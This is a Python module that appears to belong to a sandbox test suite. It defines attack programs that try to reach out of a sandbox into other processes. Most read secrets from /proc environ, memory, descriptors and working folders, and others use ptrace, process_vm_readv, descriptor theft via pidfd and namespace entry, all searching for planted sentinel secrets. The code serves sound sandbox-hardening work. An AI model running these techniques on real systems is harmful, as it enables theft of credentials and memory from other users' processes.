"""Attacks out of the run through other processes: /proc, tracing, foreign memory, stolen and inherited descriptors.

They look for what begins like a planted secret, in every process they can see; `honeypots` has put such into the node's
memory and environment and into a victim's memory, environment, arguments and descriptors.
"""

from __future__ import annotations

from cleaner_sandbox.check.attack import SYSCALL, Attack, AttackClass

FIND = """
import re
secret = re.compile(rb"sentinel[-][a-z]+[-][0-9a-f]{16}")
def tell(data):
    for found in set(secret.findall(data)):
        os.write(1, found + b"\\n")
def pids():
    return {os.getppid(), 1, @NODE@, @VICTIM@, *seen()} - {0, os.getpid()}
def read(path, size=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except OSError:
        return b""
"""
"""`tell` prints what looks like a secret in some bytes. The pattern doesn't match its own source."""

MEMORY = """
def areas(pid):
    for line in read("/proc/%s/maps" % pid).decode(errors="replace").splitlines():
        span, rights = line.split()[:2]
        if rights.startswith("rw"):
            low, high = (int(end, 16) for end in span.split("-"))
            if high - low < 64 << 20:
                yield low, high - low
"""

_PROGRAMS = {
    "proc_environ": 'for pid in pids():\n    tell(read("/proc/%d/environ" % pid))',
    "proc_cmdline": 'for pid in pids():\n    tell(read("/proc/%d/cmdline" % pid))',
    "proc_mem": MEMORY
    + """
for pid in pids():
    try:
        with open("/proc/%d/mem" % pid, "rb", buffering=0) as file:
            for start, size in areas(pid):
                try:
                    file.seek(start)
                    tell(file.read(size))
                except (OSError, ValueError):
                    pass
    except OSError:
        pass
""",
    "proc_mem_write": """
# Opening for writing is enough to know; nothing is written.
for pid in pids():
    try:
        os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR))
        win("may write the memory of %d" % pid)
    except OSError:
        pass
""",
    "proc_root": """
for pid in pids():
    for path in ("@HOME@/token", "@HOME@/private", "@TMP@/token"):
        tell(read("/proc/%d/root%s" % (pid, path)))
""",
    "proc_cwd": """
for pid in pids():
    try:
        for name in os.listdir("/proc/%d/cwd/" % pid):
            tell(read("/proc/%d/cwd/%s" % (pid, name)))
    except OSError:
        pass
""",
    "proc_fd": """
import stat
for pid in pids():
    try:
        numbers = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        continue
    for number in numbers:
        path = "/proc/%d/fd/%s" % (pid, number)
        try:
            if stat.S_ISREG(os.stat(path).st_mode):
                tell(read(path))
        except OSError:
            pass
""",
    "proc_task_siblings": """
for pid in pids():
    try:
        for task in os.listdir("/proc/%d/task" % pid):
            tell(read("/proc/%d/task/%s/environ" % (pid, task)))
    except OSError:
        pass
""",
    "inherited_descriptors": """
for number in range(3, 256):
    try:
        tell(os.pread(number, 1 << 20, 0))
    except OSError:
        pass
    tell(read("/proc/self/fd/%d" % number))
""",
    "inherited_folders": """
# A descriptor of a folder outside is a way around any mount.
for number in range(3, 256):
    for path in ("token", "../token", "@HOME@/token"[1:], "." + "/.." * 12 + "@HOME@/token"):
        try:
            tell(os.read(os.open(path, os.O_RDONLY, dir_fd=number), 4096))
        except OSError:
            pass
""",
    "ptrace_attach": SYSCALL
    + """
for pid in pids():
    result, error = syscall(101, 0x4206, pid, 0, 0)  # PTRACE_SEIZE: doesn't stop the other
    if result == 0:
        win("traces %d" % pid)
        syscall(101, 17, pid, 0, 0)
        break
""",
    "process_vm_readv": SYSCALL
    + MEMORY
    + """
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in pids():
    for start, size in areas(pid):
        buffer = ctypes.create_string_buffer(size)
        mine, other = Span(ctypes.addressof(buffer), size), Span(start, size)
        if syscall(310, pid, ctypes.byref(mine), 1, ctypes.byref(other), 1, 0)[0] > 0:
            tell(buffer.raw)
""",
    "process_vm_readv_blind": SYSCALL
    + """
# Without /proc: any answer but a refusal says that the memory may be read.
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(8)
for pid in (@NODE@, @VICTIM@):
    mine, other = Span(ctypes.addressof(buffer), 8), Span(8, 8)
    if syscall(310, pid, ctypes.byref(mine), 1, ctypes.byref(other), 1, 0)[1] == errno.EFAULT:
        win(pid)
""",
    "steal_descriptor": SYSCALL
    + """
for pid in pids():
    handle, _ = syscall(434, pid, 0)
    for number in range(256) if handle >= 0 else ():
        stolen, _ = syscall(438, handle, number, 0)
        if stolen >= 0:
            win("descriptor %d of %d" % (number, pid))
            try:
                tell(os.pread(stolen, 1 << 16, 0))
            except OSError:
                pass
            os.close(stolen)
            break
""",
    "compare_kernel_objects": SYSCALL
    + """
if syscall(312, @VICTIM@, @VICTIM@, 1, 0, 0)[0] == 0:  # KCMP_VM
    win("kcmp on a foreign process")
""",
    "enter_namespaces": SYSCALL
    + """
for pid in pids():
    for kind in ("user", "mnt", "net", "pid", "ipc", "uts"):
        try:
            descriptor = os.open("/proc/%d/ns/%s" % (pid, kind), os.O_RDONLY)
        except OSError:
            continue
        if syscall(308, descriptor, 0)[0] == 0:
            win("in the %s namespace of %d" % (kind, pid))
for path in ("@HOME@/token", "@TMP@/token"):
    tell(read(path))
""",
    "futex_robust_list": SYSCALL
    + """
head, size = ctypes.c_void_p(), ctypes.c_size_t()
for pid in (@NODE@, @VICTIM@):
    if syscall(274, pid, ctypes.byref(head), ctypes.byref(size))[0] == 0:
        win("an address in %d" % pid)
""",
    "migrate_pages": SYSCALL
    + """
mask = ctypes.c_ulong(1)
for pid in (@NODE@, @VICTIM@):
    if syscall(256, pid, 64, ctypes.byref(mask), ctypes.byref(mask))[0] >= 0:
        win("moves the memory of %d" % pid)
""",
    "process_madvise": SYSCALL
    + """
handle, _ = syscall(434, @VICTIM@, 0)
if handle >= 0:
    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    span = Span(0, 0)
    if not refused(syscall(440, handle, ctypes.byref(span), 1, 21, 0)[1]):
        win("pages out the memory of another")
""",
}

ATTACKS: tuple[Attack, ...] = tuple(Attack(name, AttackClass.ESCAPE, FIND + text) for name, text in _PROGRAMS.items())
